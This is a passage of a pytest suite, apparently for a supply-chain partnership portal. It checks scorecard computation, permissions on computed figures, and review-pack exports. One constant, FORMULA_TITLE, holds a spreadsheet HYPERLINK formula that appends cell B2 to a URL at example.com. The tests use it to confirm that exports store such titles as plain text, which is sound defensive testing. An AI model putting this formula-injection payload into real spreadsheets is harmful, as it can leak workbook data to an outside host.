"""The ``scorecards.compute`` job on a real hub pinned to a day past a year's end: what it
stores, that it rewrites only what changed, and that nobody else writes what it computed."""

from __future__ import annotations

import datetime as dt
import itertools
import secrets
import uuid

import pytest

from directus import HubClient
from directus.errors import HubError
from governance.partners import assign_manager, ensure_partnership
from migrations.accounts import SYNC_SERVICE_EMAIL, set_service_token
from sync.runs import JobContext
from sync.scorecards import compute_scorecards
from tests import factories
from tests.factories import make_org, make_sku, make_user
from tests.pinning import module_hub

TODAY = dt.date(2027, 1, 6)
hub, admin = module_hub(TODAY)


@pytest.fixture(scope="module")
def sync(hub, admin) -> HubClient:
    token = secrets.token_urlsafe(32)
    set_service_token(admin, SYNC_SERVICE_EMAIL, token)
    return HubClient(hub.url, token=token)


def run(sync: HubClient) -> dict[str, int]:
    ctx = JobContext(
        hub=sync, job_id="scorecards.compute", run_id=str(uuid.uuid4()), settings={"quarters": 5}
    )
    compute_scorecards(ctx)
    return dict(ctx.counts)


def stamp(day: str, hour: int) -> str:
    return f"{day}T{hour:02d}:00:00Z"


@pytest.fixture(scope="module")
def pair(hub, admin, sync):
    """A pair with three December orders: one perfect, one late, short and answered late,
    one cancelled; its manager; and the job's first run."""
    supplier, distributor = make_org(admin, "supplier"), make_org(admin, "distributor")
    pid = ensure_partnership(admin, supplier["id"], distributor["id"])
    manager = make_user(admin, "account_manager", make_org(admin, "operator"))
    assign_manager(admin, manager.id, supplier["id"], distributor["id"], via="test")
    sku = make_sku(admin, supplier)
    admin.update_item("skus", sku["id"], {"case_pack": 6})
    ids = {}
    for name, ordered, due, acked, status in (
        ("perfect", "2026-12-01", "2026-12-15", stamp("2026-12-01", 15), "received"),
        ("late", "2026-12-08", "2026-12-22", stamp("2026-12-10", 9), "partially_shipped"),
        ("cancelled", "2026-12-09", "2026-12-23", None, "cancelled"),
    ):
        po = admin.create_item(
            "purchase_orders",
            {
                "number": f"PO-{name}-{pid}",
                "status": status,
                "ordered_on": ordered,
                "requested_date": due,
                "promised_date": due,
                "original_promised_date": due,
                "acknowledged_at": acked,
                "currency": "USD",
                "partnership": pid,
            },
        )
        admin.update_item("purchase_orders", po["id"], {"placed_at": stamp(ordered, 9)})
        line = admin.create_item(
            "po_lines",
            {
                "purchase_order": po["id"],
                "line_no": 1,
                "sku": sku["id"],
                "qty_ordered": 60,
                "qty_promised": 60,
                "unit_cost_minor": 100,
                "partnership": pid,
            },
        )
        ids[name], ids[f"{name}_line"] = po["id"], line["id"]
    ids_sku = sku["id"]
    for name, ship, received, qty in (
        ("perfect", "2026-12-12", "2026-12-14", 60),
        ("late", "2026-12-26", "2026-12-28", 48),
    ):
        asn = admin.create_item(
            "shipments",
            {
                "number": f"ASN-{name}-{pid}",
                "status": "received",
                "ship_date": ship,
                "received_date": received,
                "purchase_order": ids[name],
                "partnership": pid,
            },
        )
        admin.update_item("shipments", asn["id"], {"recorded_at": stamp(ship, 18)})
        admin.create_item(
            "shipment_lines",
            {
                "shipment": asn["id"],
                "po_line": ids[f"{name}_line"],
                "qty_shipped": qty,
                "qty_received": qty,
                "partnership": pid,
            },
        )
        invoice = admin.create_item(
            "invoices",
            {
                "number": f"INV-{name}-{pid}",
                "invoice_date": ship,
                "total_minor": qty * 100,
                "currency": "USD",
                "purchase_order": ids[name],
                "partnership": pid,
            },
        )
        line = admin.create_item(
            "invoice_lines",
            {
                "invoice": invoice["id"],
                "po_line": ids[f"{name}_line"],
                "qty": qty,
                "unit_price_minor": 100,
                "amount_minor": qty * 100,
                "partnership": pid,
            },
        )
        ids[f"{name}_invoice_line"] = line["id"]
    first = run(sync)
    return {
        "id": pid,
        "ids": ids,
        "sku": ids_sku,
        "manager": manager,
        "supplier": supplier,
        "distributor": distributor,
        "first": first,
    }


def card(admin: HubClient, pid: int, grain: str, start: str) -> dict:
    (row,) = admin.read_items(
        "scorecards",
        filter={"key": {"_eq": f"{pid}:{grain}:{start}"}},
        fields=["*", "values.*"],
        limit=1,
    )
    row["by_kpi"] = {v["kpi"]: v for v in row["values"]}
    return row


def test_the_job_stores_every_period_of_the_last_five_quarters_with_named_variants(admin, pair):
    pid = pair["id"]
    # Five calendar quarters back from 6 Jan 2027: 2026-Q1 .. 2027-Q1, 13 months, and the
    # ISO weeks from 2026-W01 (Monday 29 Dec 2025) to 2027-W01.
    stored = admin.read_items(
        "scorecards",
        filter={"partnership": {"_eq": pid}},
        fields=["grain", "label", "source"],
        limit=-1,
    )
    labels = {
        g: sorted(r["label"] for r in stored if r["grain"] == g)
        for g in ("quarter", "month", "week")
    }
    assert labels["quarter"] == ["2026-Q1", "2026-Q2", "2026-Q3", "2026-Q4", "2027-Q1"]
    assert len(labels["month"]) == 13
    assert labels["week"][0] == "2026-W01"
    assert labels["week"][-1] == "2027-W01"
    assert {r["source"] for r in stored} == {"computed"}
    december = card(admin, pid, "month", "2026-12-01")
    assert december["label"] == "2026-12"
    assert december["period_end"] == "2026-12-31"
    for value in december["values"]:
        assert value["variant"], value["kpi"]


def test_december_by_hand(admin, pair):
    ids = pair["ids"]
    kpi = card(admin, pair["id"], "month", "2026-12-01")["by_kpi"]
    perfect, late = ids["perfect"], ids["late"]
    # The cancelled order counts nowhere; the late one misses on time and in full.
    assert (
        kpi["otif.order.promised"]["value"],
        kpi["otif.order.promised"]["basis"],
        kpi["otif.order.promised"]["misses"],
    ) == ("50.0", [perfect, late], [late])
    assert (kpi["otif.unit.promised"]["numerator"], kpi["otif.unit.promised"]["denominator"]) == (
        "60",
        "120",
    )
    assert kpi["otif.case.promised"]["numerator"] == "10"  # 60 units in packs of 6
    assert kpi["fill.unit"]["value"] == "90.0"  # (60 + 48) / 120
    assert kpi["fill.order"]["value"] == "50.0"
    assert kpi["perfect_order"]["misses"] == [late]
    # Placed 09:00; answered 15:00 the same day, and two days later.
    assert (kpi["ack.24h"]["value"], kpi["ack.24h"]["misses"]) == ("50.0", [late])
    # Only the perfect order was received in full: 1 to 14 December.
    assert (kpi["lead_time.mean"]["value"], kpi["lead_time.mean"]["basis"]) == ("13.0", [perfect])
    assert kpi["lead_time.mean"]["unit"] == "days"
    assert kpi["asn.timely"]["value"] == "100.0"
    assert kpi["jbp.adherence"]["value"] is None  # no plan actions: no data, not 0
    assert kpi["otif.order.promised"]["collection"] == "purchase_orders"


def test_a_second_run_rewrites_nothing_and_a_change_rewrites_only_its_periods(admin, sync, pair):
    assert pair["first"]["created"] == pair["first"]["computed"]
    second = run(sync)
    assert (second["created"], second["updated"]) == (0, 0)
    assert second["unchanged"] == pair["first"]["computed"]
    before = card(admin, pair["id"], "quarter", "2026-10-01")
    # The perfect order's invoice is corrected to 59: it is no longer a perfect order.
    admin.update_item("invoice_lines", pair["ids"]["perfect_invoice_line"], {"qty": 59})
    again = run(sync)
    # Its week (due 15 Dec: 2026-W51), December and 2026-Q4.
    assert again["updated"] == 3
    after = card(admin, pair["id"], "quarter", "2026-10-01")
    assert after["id"] == before["id"]
    assert after["by_kpi"]["perfect_order"]["value"] == "0.0"
    assert before["by_kpi"]["perfect_order"]["value"] == "50.0"
    assert len(after["values"]) == len(before["values"])
    admin.update_item("invoice_lines", pair["ids"]["perfect_invoice_line"], {"qty": 60})
    assert run(sync)["updated"] == 3


def test_nobody_but_the_job_writes_a_computed_scorecard(hub, admin, pair):
    manager = pair["manager"].login(hub.url)
    computed = card(admin, pair["id"], "month", "2026-12-01")
    value = computed["values"][0]
    attempts = [
        lambda: manager.update_item("scorecard_values", value["id"], {"value": "100.0"}),
        lambda: manager.update_item("scorecards", computed["id"], {"label": "better"}),
        lambda: manager.create_item(
            "scorecard_values",
            {
                "scorecard": computed["id"],
                "partnership": pair["id"],
                "kpi": "otif",
                "variant": "mine",
                "value": "100",
            },
        ),
        lambda: manager.delete_item("scorecard_values", value["id"]),
        lambda: manager.create_item(
            "scorecards",
            {
                "partnership": pair["id"],
                "period_start": "2026-12-01",
                "period_end": "2026-12-31",
                "source": "computed",
            },
        ),
    ]
    for attempt in attempts:
        with pytest.raises(HubError):
            attempt()
    assert card(admin, pair["id"], "month", "2026-12-01")["by_kpi"] == computed["by_kpi"]
    # The manager's own scorecards are still theirs to keep.
    december = {"period_start": "2026-12-01", "period_end": "2026-12-31"}
    mine = manager.create_item("scorecards", {"partnership": pair["id"], **december})
    manager.create_item(
        "scorecard_values",
        {"scorecard": mine["id"], "partnership": pair["id"], "kpi": "otif", "variant": "mine"},
    )
    assert admin.read_item("scorecards", mine["id"])["source"] == "manual"


def test_the_scheduler_writes_nothing_but_computed_scorecards(admin, sync, pair):
    """The sync service's token is narrow too: no value on a manager's own scorecard, and
    a computed card's pair, key and source are set once."""
    manual = admin.create_item(
        "scorecards",
        {"partnership": pair["id"], "period_start": "2026-11-01", "period_end": "2026-11-30"},
    )
    attempts = [
        lambda: sync.create_item(
            "scorecard_values",
            {"scorecard": manual["id"], "partnership": pair["id"], "kpi": "x", "variant": "forged"},
        ),
        lambda: sync.update_item("scorecards", manual["id"], {"label": "forged"}),
        lambda: sync.delete_item("scorecards", manual["id"]),
    ]
    computed = card(admin, pair["id"], "month", "2026-12-01")
    for change in ({"partnership": pair["id"] + 1}, {"source": "manual"}, {"key": "forged"}):
        attempts.append(
            lambda change=change: sync.update_item("scorecards", computed["id"], change)
        )
    for attempt in attempts:
        with pytest.raises(HubError):
            attempt()
    assert admin.read_item("scorecards", manual["id"])["label"] is None
    after = admin.read_item("scorecards", computed["id"])
    assert (after["key"], after["source"]) == (computed["key"], "computed")


def test_the_hub_stamps_placement_and_no_partner_changes_it(hub, admin, pair):
    distributor = make_user(admin, "distributor_user", pair["distributor"]).login(hub.url)
    order = pair["ids"]["perfect"]
    with pytest.raises(HubError):
        distributor.update_item("purchase_orders", order, {"placed_at": "2026-11-01T00:00:00Z"})
    assert admin.read_item("purchase_orders", order)["placed_at"].startswith("2026-12-01T09:00")


def test_another_pairs_partner_reads_none_of_it(hub, admin, pair):
    outsider = make_user(admin, "supplier_user").login(hub.url)
    assert outsider.read_items("scorecards", filter={"partnership": {"_eq": pair["id"]}}) == []
    assert (
        outsider.read_items("scorecard_values", filter={"partnership": {"_eq": pair["id"]}}) == []
    )


def test_the_portal_refuses_a_managers_value_on_a_computed_scorecard(hub, admin, pair):
    from portal.data import DataError
    from tests.factories import governed_access

    manager = governed_access(hub, pair["manager"])
    computed = card(admin, pair["id"], "month", "2026-12-01")
    with pytest.raises(DataError) as refused:
        manager.create_child(
            "scorecards",
            computed["id"],
            "values",
            {"kpi": "otif", "variant": "mine", "value": "100"},
        )
    assert "scorecard" in str(refused.value.errors or refused.value.message)
    assert len(card(admin, pair["id"], "month", "2026-12-01")["values"]) == len(computed["values"])


# -- the pages ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def app(hub):
    from portal import create_app
    from portal.config import Config

    token = secrets.token_urlsafe(32)
    from migrations.accounts import PORTAL_AUTH_EMAIL

    set_service_token(hub.admin(), PORTAL_AUTH_EMAIL, token)
    portal = create_app(
        Config(secret_key=secrets.token_urlsafe(48), hub_url=hub.url, portal_auth_token=token)
    )
    portal.testing = True
    return portal


@pytest.fixture(scope="module")
def reviewed(admin, sync, pair):
    """The pair's plan for 2027 with a target the quarter misses, an overdue action and
    an overdue risk review; scorecards computed again."""
    pid = pair["id"]
    plan = admin.create_item(
        "business_plans",
        {
            "partnership": pid,
            "year": 2027,
            "status": "active",
            "targets": {"fill.unit": "98.0", "ack.24h": "95.0", "net_sales_growth_pct": "4.0"},
        },
    )
    admin.create_item(
        "plan_actions",
        {
            "plan": plan["id"],
            "partnership": pid,
            "title": "Weekly allocation call",
            "owner_side": "supplier",
            "due_date": "2027-01-04",
            "status": "open",
        },
    )
    admin.create_item(
        "risks",
        {
            "partnership": pid,
            "title": "Port strike",
            "category": "supply",
            "likelihood": 4,
            "impact": 5,
            "review_date": "2027-01-02",
            "status": "open",
        },
    )
    # An order due in January, short: the quarter to date misses the fill target.
    po = admin.create_item(
        "purchase_orders",
        {
            "number": f"PO-jan-{pid}",
            "status": "partially_shipped",
            "ordered_on": "2026-12-20",
            "requested_date": "2027-01-04",
            "promised_date": "2027-01-04",
            "currency": "USD",
            "partnership": pid,
        },
    )
    line = admin.create_item(
        "po_lines",
        {
            "purchase_order": po["id"],
            "line_no": 1,
            "sku": admin.read_items(
                "po_lines",
                filter={"purchase_order": {"_eq": pair["ids"]["perfect"]}},
                fields=["sku"],
                limit=1,
            )[0]["sku"],
            "qty_ordered": 100,
            "qty_promised": 100,
            "unit_cost_minor": 100,
            "partnership": pid,
        },
    )
    asn = admin.create_item(
        "shipments",
        {
            "number": f"ASN-jan-{pid}",
            "status": "shipped",
            "ship_date": "2027-01-02",
            "purchase_order": po["id"],
            "partnership": pid,
        },
    )
    admin.create_item(
        "shipment_lines",
        {"shipment": asn["id"], "po_line": line["id"], "qty_shipped": 90, "partnership": pid},
    )
    run(sync)
    return {"plan": plan["id"], "january": po["id"]}


_ADDRESSES = itertools.count(1)


def sign_in(app, member):
    """Signed in from an address of its own: the module signs dozens of people in within
    a minute, more than the sign-in throttle lets one address."""
    n = next(_ADDRESSES)
    return factories.sign_in(app, member, remote_addr=f"10.13.{n // 250}.{n % 250 + 1}")


def page(client, path: str, status: int = 200) -> str:
    response = client.get(path)
    assert response.status_code == status, (path, response.status_code)
    return response.get_data(as_text=True)


def test_the_managers_home_leads_with_what_needs_attention_and_lists_the_pair(app, pair, reviewed):
    home = page(sign_in(app, pair["manager"]), "/manager")
    assert "1 risk review overdue" in home
    assert "1 plan action due within 14 days" in home
    # Quarter to date: 90 of 100 units shipped against a 98 % target.
    assert "Unit fill: 90.0 %" in home
    assert f"/reviews/pairs/{pair['id']}" in home
    assert 'href="/manager"' not in home.split('id="attention"')[1].split("</ul>")[0]


def test_the_pair_page_shows_plan_targets_actions_and_the_risk_heat_map(app, pair, reviewed):
    body = page(sign_in(app, pair["manager"]), f"/reviews/pairs/{pair['id']}")
    assert '<svg class="chart heat-map"' in body
    assert "likelihood 4 times impact 5 = 20 (critical): 1" in body
    assert "Weekly allocation call" in body
    assert "overdue" in body
    assert "net_sales_growth_pct 4.0" in body
    assert "2027-Q1" in body


def test_the_scorecard_table_and_its_drill_down_to_the_orders(app, admin, pair, reviewed):
    client = sign_in(app, pair["manager"])
    table = page(client, f"/reviews/pairs/{pair['id']}/scorecard?grain=month")
    assert "2026-12" in table
    assert "Perfect order" in table
    december = card(admin, pair["id"], "month", "2026-12-01")
    drill = page(client, f"/reviews/scorecards/{december['id']}/otif.order.promised")
    assert f"PO-late-{pair['id']}" in drill
    assert f"PO-perfect-{pair['id']}" in drill
    assert "cancelled" not in drill.split('id="records"')[1]
    assert drill.index(f"PO-late-{pair['id']}") < drill.index(f"PO-perfect-{pair['id']}")
    # Both partners of the pair read it too.
    supplier = make_user(admin, "supplier_user", pair["supplier"])
    assert "2026-12" in page(sign_in(app, supplier), f"/reviews/pairs/{pair['id']}/scorecard")


def test_nobody_outside_the_pair_reads_its_review_or_its_figures(app, admin, pair, reviewed):
    december = card(admin, pair["id"], "month", "2026-12-01")
    other_manager = make_user(admin, "account_manager", make_org(admin, "operator"))
    outsider = make_user(admin, "supplier_user")
    for member in (other_manager, outsider):
        client = sign_in(app, member)
        page(client, f"/reviews/pairs/{pair['id']}", 403)
        page(client, f"/reviews/scorecards/{december['id']}/otif.order.promised", 404)
        body = page(client, f"/reviews/pairs/{pair['id']}/scorecard", 403)
        assert f"PO-late-{pair['id']}" not in body
        assert "PO-" not in page(client, "/reviews")


# -- the quarterly business review pack ---------------------------------------------------


@pytest.fixture(scope="module")
def q4_plan(admin, pair, reviewed):
    """The pair's 2026 plan, so the 2026-Q4 pack has targets to hold the quarter to, and
    an action whose title a spreadsheet would take for a formula."""
    plan = admin.create_item(
        "business_plans",
        {
            "partnership": pair["id"],
            "year": 2026,
            "status": "active",
            "targets": {"otif.order.promised": "95.0", "fill.unit": "92.0"},
        },
    )
    admin.create_item(
        "plan_actions",
        {
            "plan": plan["id"],
            "partnership": pair["id"],
            "title": FORMULA_TITLE,
            "owner_side": "supplier",
            "due_date": "2026-11-02",
            "status": "open",
        },
    )
    return plan


FORMULA_TITLE = '=HYPERLINK("https://example.com/?"&B2,"open")'


def test_the_pack_workbook_agrees_with_the_stored_scorecards_and_the_raw_orders(
    app, admin, pair, q4_plan
):
    import io
    from decimal import Decimal

    from openpyxl import load_workbook

    client = sign_in(app, pair["manager"])
    response = client.get(f"/reviews/pairs/{pair['id']}/pack.xlsx")  # the last whole quarter
    assert response.status_code == 200
    assert "review-" in response.headers["Content-Disposition"]
    assert "2026-Q4.xlsx" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [
        "Summary",
        "KPI trends",
        "Targets vs actuals",
        "JBP actions",
        "Risks",
        "Promotions",
        "Escalations",
        "Definitions",
    ]
    trends = book["KPI trends"]
    header = [c.value for c in trends[1]]
    assert header == ["KPI", "2025-Q4", "2026-Q1", "2026-Q2", "2026-Q3", "2026-Q4", "Unit"]
    rows = {r[0].value: [c.value for c in r[1:]] for r in trends.iter_rows(min_row=2)}
    stored = card(admin, pair["id"], "quarter", "2026-10-01")["by_kpi"]
    named = (
        ("otif.order.promised", "OTIF, orders, to commitment"),
        ("fill.unit", "Unit fill"),
        ("lead_time.mean", "Lead time, mean"),
    )
    for kpi, name in named:
        assert Decimal(str(rows[name][4])) == Decimal(stored[kpi]["value"]), kpi
    assert rows["Perfect order"][:4] == [None, None, None, None]  # no orders then: no data
    assert len(trends._charts) == 2  # native Excel line charts
    # The raw orders: due in Q4 2026 by commitment, not cancelled; on time in full.
    orders = admin.read_items(
        "purchase_orders",
        filter={
            "_and": [
                {"partnership": {"_eq": pair["id"]}},
                {"status": {"_neq": "cancelled"}},
                {"promised_date": {"_between": ["2026-10-01", "2026-12-31"]}},
            ]
        },
        fields=[
            "id",
            "promised_date",
            "lines.qty_promised",
            "shipments.received_date",
            "shipments.lines.qty_received",
        ],
        limit=-1,
    )
    on_time = sum(
        1
        for o in orders
        if sum(
            ln["qty_received"] or 0
            for s in o["shipments"]
            for ln in s["lines"]
            if s["received_date"] and s["received_date"] <= o["promised_date"]
        )
        >= sum(ln["qty_promised"] for ln in o["lines"])
    )
    assert Decimal(str(rows["OTIF, orders, to commitment"][4])) == Decimal(100 * on_time) / len(
        orders
    )
    targets = {
        r[0].value: [c.value for c in r[1:]]
        for r in book["Targets vs actuals"].iter_rows(min_row=2)
    }
    target, actual = targets["OTIF, orders, to commitment"][:2]
    assert (Decimal(str(target)), Decimal(str(actual))) == (Decimal("95.0"), Decimal("50.0"))
    assert targets["OTIF, orders, to commitment"][4] == "misses"
    risks_sheet = [[c.value for c in r] for r in book["Risks"].iter_rows()]
    assert risks_sheet[1][:6] == ["Port strike", "supply", 4, 5, 20, "critical"]
    heat = next(i for i, r in enumerate(risks_sheet) if r[0] == "impact \\ likelihood")
    assert risks_sheet[heat + 1][0] == 5
    assert risks_sheet[heat + 1][4] == 1
    (action,) = [r[0] for r in book["JBP actions"].iter_rows(min_row=2)]
    assert (action.value, action.data_type) == (FORMULA_TITLE, "s")  # text, never a formula
    definitions = {r[0].value: r[2].value for r in book["Definitions"].iter_rows(min_row=2)}
    assert definitions["otif.order.promised"] == stored["otif.order.promised"]["variant"]


def test_the_pack_prints_as_a_page_and_a_pdf_for_the_pair_only(app, admin, pair, q4_plan):
    manager = sign_in(app, pair["manager"])
    page_ = page(manager, f"/reviews/pairs/{pair['id']}/pack?quarter=2026-Q4")
    assert "@page { size: A4 landscape" in page_
    assert page_.count("page-break-before: always") == 1  # one rule, every section after the first
    assert "Port strike" in page_
    assert "<svg" in page_
    pdf = manager.get(f"/reviews/pairs/{pair['id']}/pack.pdf?quarter=2026-Q4")
    assert pdf.status_code == 200
    assert pdf.data.startswith(b"%PDF-")
    bad = manager.get(f"/reviews/pairs/{pair['id']}/pack.xlsx?quarter=2026-Q9")
    assert bad.status_code == 422
    assert "YYYY-Qn" in bad.get_data(as_text=True)
    supplier = sign_in(app, make_user(admin, "supplier_user", pair["supplier"]))
    assert supplier.get(f"/reviews/pairs/{pair['id']}/pack.xlsx").status_code == 200
    outsiders = (
        make_user(admin, "account_manager", make_org(admin, "operator")),
        make_user(admin, "supplier_user"),
        make_user(admin, "distributor_user"),
    )
    for outsider in outsiders:
        client = sign_in(app, outsider)
        assert client.get(f"/reviews/pairs/{pair['id']}/pack.xlsx").status_code == 403
        assert client.get(f"/reviews/pairs/{pair['id']}/pack").status_code == 403
    audit = admin.read_items(
        "audit_log", filter={"action": {"_eq": "review_pack.export"}}, fields=["detail"], limit=-1
    )
    assert {"role": "account_manager", "quarter": "2026-Q4", "format": "pdf"} in [
        a["detail"] for a in audit
    ]


def test_the_cli_writes_the_same_pack_as_the_manager_and_refuses_anyone_else(
    hub, admin, pair, q4_plan, tmp_path
):
    import io
    from decimal import Decimal

    from click.testing import CliRunner
    from openpyxl import load_workbook

    from tandem.cli import cli

    secret = tmp_path / "password"
    secret.write_text(pair["manager"].password + "\n")
    args = [
        "review",
        "pack",
        "--supplier",
        pair["supplier"]["name"],
        "--distributor",
        str(pair["distributor"]["id"]),
        "--quarter",
        "2026-Q4",
        "--email",
        pair["manager"].email,
        "--password-file",
        str(secret),
        "--out",
        str(tmp_path),
        "--hub-url",
        hub.url,
    ]
    done = CliRunner().invoke(cli, args)
    assert done.exit_code == 0, done.output
    written = sorted(p.name for p in tmp_path.glob("review-*"))
    assert [name.rsplit(".", 1)[1] for name in written] == ["html", "pdf", "xlsx"]
    xlsx = next(tmp_path.glob("review-*.xlsx"))
    book = load_workbook(io.BytesIO(xlsx.read_bytes()))
    rows = {r[0].value: r[5].value for r in book["KPI trends"].iter_rows(min_row=2)}
    stored = card(admin, pair["id"], "quarter", "2026-10-01")["by_kpi"]
    assert Decimal(str(rows["Unit fill"])) == Decimal(stored["fill.unit"]["value"])
    assert next(tmp_path.glob("review-*.pdf")).read_bytes().startswith(b"%PDF-")
    # A manager of other pairs, and another supplier, are party to no such pair.
    other = make_user(admin, "account_manager", make_org(admin, "operator"))
    outsider = make_user(admin, "supplier_user")
    for member, words in ((other, "party to no pair"), (outsider, "party to no pair")):
        secret.write_text(member.password + "\n")
        refused = CliRunner().invoke(cli, [*args[:9], member.email, *args[10:]])
        assert refused.exit_code == 1
        assert words in refused.output
    secret.write_text(pair["manager"].password + "\n")
    bad = CliRunner().invoke(cli, [*args[:7], "2026-Q0", *args[8:]])
    assert bad.exit_code == 1
    assert "expected YYYY-Qn" in bad.output


def test_the_api_answers_the_pack_to_the_pair_only(app, admin, pair, q4_plan):
    manager = sign_in(app, pair["manager"])
    path = f"/api/v1/review-packs/{pair['id']}"
    pdf = manager.get(f"{path}?quarter=2026-Q4&format=pdf")
    assert pdf.status_code == 200
    assert pdf.data.startswith(b"%PDF-")
    assert (
        manager.get(path)
        .headers["Content-Type"]
        .startswith("application/vnd.openxmlformats-officedocument")
    )
    assert manager.get(f"{path}?format=doc").get_json()["errors"] == {
        "format": ["xlsx, pdf or html"]
    }
    assert manager.get(f"{path}?quarter=Q4").status_code == 422
    supplier = sign_in(app, make_user(admin, "supplier_user", pair["supplier"]))
    assert supplier.get(path).status_code == 200
    refused = sign_in(app, make_user(admin, "supplier_user")).get(path)
    assert refused.status_code == 403
    assert refused.get_json()["code"] == "FORBIDDEN"
    other = sign_in(app, make_user(admin, "account_manager", make_org(admin, "operator")))
    assert other.get(path).status_code == 403
    document = manager.get("/api/v1/openapi.json").get_json()
    assert "/api/v1/review-packs/{key}" in document["paths"]


def test_a_promotions_lift_is_read_by_each_readers_own_rules(hub, app, admin, pair, q4_plan):
    """The supplier and the pair's manager see the lift from the POS the distributor
    shares; the distributor from its own. When the weeks of the baseline are not all
    shared, a supplier and a manager are told so, not shown a lift over weeks of 0."""
    import io
    from decimal import Decimal

    from openpyxl import load_workbook

    from directus.bulk import open_lane, write_rows
    from governance import sharing
    from tests.factories import make_store

    pid, sku = pair["id"], pair["sku"]
    store = make_store(admin, pair["distributor"], "S1")
    granted = sharing.grant(
        admin,
        pair["distributor"]["id"],
        pair["supplier"]["id"],
        ["pos"],
        valid_from=dt.date(2026, 1, 1),
        via="test",
    )
    promo = admin.create_item(
        "promotions",
        {
            "name": "Winter TPR",
            "type": "tpr",
            "start_date": "2026-11-11",
            "end_date": "2026-11-24",
            "expected_uplift_pct": 25,
            "status": "accepted",
            "partnership": pid,
        },
    )
    admin.create_item("promotion_skus", {"promotion": promo["id"], "sku": sku, "partnership": pid})
    # Baseline weeks (from 12 Oct): 100, 100, 80, 120 = 100 a week; the promotion's weeks
    # (9, 16 and 23 Nov): 150, 130, 140 = 140 a week: +40.0 %, 15.0 points over the plan.
    weekly = {
        "2026-10-14": 100,
        "2026-10-21": 100,
        "2026-10-28": 80,
        "2026-11-04": 120,
        "2026-11-11": 150,
        "2026-11-18": 130,
        "2026-11-25": 140,
    }
    rows = [
        (
            pair["distributor"]["id"],
            store["id"],
            sku,
            dt.date.fromisoformat(day),
            units,
            units * 100,
            "USD",
        )
        for day, units in weekly.items()
    ]
    with open_lane(hub.lane_url) as lane:
        write_rows(lane, "pos", rows)

    def lift(member) -> list:
        answer = sign_in(app, member).get(f"/reviews/pairs/{pid}/pack.xlsx?quarter=2026-Q4")
        assert answer.status_code == 200
        sheet = load_workbook(io.BytesIO(answer.data))["Promotions"]
        (row,) = [
            [c.value for c in r] for r in sheet.iter_rows(min_row=2) if r[0].value == "Winter TPR"
        ]
        return row[6:]

    expected = [25, Decimal("100.0"), Decimal("140.0"), Decimal("40.0"), Decimal("15.0")]
    supplier = make_user(admin, "supplier_user", pair["supplier"])
    distributor = make_user(admin, "distributor_user", pair["distributor"])
    for member in (supplier, distributor, pair["manager"]):
        got = lift(member)
        assert [got[0]] + [Decimal(str(v)) for v in got[1:]] == expected, member.role

    # Shared only from 2 November: two of the four baseline weeks are not shared.
    sharing.revoke(admin, int(granted["id"]), via="test")
    later = sharing.grant(
        admin,
        pair["distributor"]["id"],
        pair["supplier"]["id"],
        ["pos"],
        valid_from=dt.date(2026, 11, 2),
        via="test",
    )
    unknown = "POS not shared for every week and store of its baseline and run: no lift"
    for member in (supplier, pair["manager"]):
        assert lift(member)[1:] == [None, None, None, unknown], member.role
    got = lift(distributor)  # its own POS: every week
    assert [Decimal(str(v)) for v in got[1:]] == expected[1:]
    sharing.revoke(admin, int(later["id"]), via="test")
    assert lift(supplier)[-1] == "POS not readable by you here: no lift"


# -- the plan and the register, kept on the pair's page ----------------------------------


def form_post(client, path: str, data: dict, page_path: str):
    from tests.factories import csrf_token

    return client.post(path, data={**data, "csrf_token": csrf_token(client, page_path)})


def test_the_manager_writes_the_plan_revises_it_and_each_side_reports_its_actions(
    hub, app, admin, pair, reviewed
):
    pid = pair["id"]
    pair_page = f"/reviews/pairs/{pid}"
    manager = sign_in(app, pair["manager"])
    # The 2027 plan exists (reviewed): the form edits it; a bad event line names itself.
    bad = form_post(
        manager,
        f"{pair_page}/plan",
        {
            "sponsors": "Both CEOs",
            "status": "active",
            "target-fill.unit": "97.5",
            "events": "2027-03-01 | store_opening | Ten stores in Ohio\nsoon | party",
        },
        f"{pair_page}/plan",
    )
    assert bad.status_code == 422
    assert "line 2: expected date | kind | title" in bad.get_data(as_text=True)
    saved = form_post(
        manager,
        f"{pair_page}/plan",
        {
            "sponsors": "Both CEOs",
            "status": "active",
            "target-fill.unit": "97.5",
            "target-ack.24h": "95.0",
            "extra_targets": "net_sales_growth_pct = 4.0",
            "events": "2027-03-01 | store_opening | Ten stores in Ohio",
        },
        f"{pair_page}/plan",
    )
    assert saved.status_code == 302
    plan = admin.read_item("business_plans", reviewed["plan"])
    assert plan["targets"] == {
        "fill.unit": "97.5",
        "ack.24h": "95.0",
        "net_sales_growth_pct": "4.0",
    }
    assert plan["events"] == [
        {"date": "2027-03-01", "kind": "store_opening", "title": "Ten stores in Ohio"}
    ]
    # A quarterly revision is a version: stamped with who made it, never changed after.
    form_post(
        manager,
        f"{pair_page}/plan/revisions",
        {"quarter": "1", "target-fill.unit": "96.0", "notes": "Port strike"},
        pair_page,
    )
    body = manager.get(pair_page).get_data(as_text=True)
    assert "fill.unit 97.5 → 96.0" in body
    (revision,) = admin.read_items(
        "plan_revisions", filter={"plan": {"_eq": reviewed["plan"]}}, fields=["id", "revised_by"]
    )
    assert revision["revised_by"] == pair["manager"].id
    hub_manager = pair["manager"].login(hub.url)
    with pytest.raises(HubError):
        hub_manager.update_item("plan_revisions", revision["id"], {"notes": "rewritten"})
    with pytest.raises(HubError):
        hub_manager.delete_item("plan_revisions", revision["id"])
    # The manager adds a supplier's action; the supplier reports it, the distributor cannot.
    form_post(
        manager,
        f"{pair_page}/plan/actions",
        {"title": "Allocate the peak", "owner_side": "supplier", "due_date": "2027-02-01"},
        pair_page,
    )
    (action,) = admin.read_items(
        "plan_actions", filter={"title": {"_eq": "Allocate the peak"}}, fields=["id", "status"]
    )
    supplier = sign_in(app, make_user(admin, "supplier_user", pair["supplier"]))
    distributor_member = make_user(admin, "distributor_user", pair["distributor"])
    distributor = sign_in(app, distributor_member)
    form_post(distributor, f"/reviews/actions/{action['id']}", {"status": "done"}, pair_page)
    assert admin.read_item("plan_actions", action["id"])["status"] == "open"
    with pytest.raises(HubError):  # nor through the hub with its own login
        distributor_member.login(hub.url).update_item(
            "plan_actions", action["id"], {"status": "done"}
        )
    form_post(supplier, f"/reviews/actions/{action['id']}", {"status": "done"}, pair_page)
    done = admin.read_item("plan_actions", action["id"])
    assert (done["status"], done["completed_on"]) == ("done", "2027-01-06")
    # The API says the same: the supplier reopens it, the distributor is refused.
    from tests.factories import csrf_token

    token = {"X-CSRFToken": csrf_token(supplier, pair_page)}
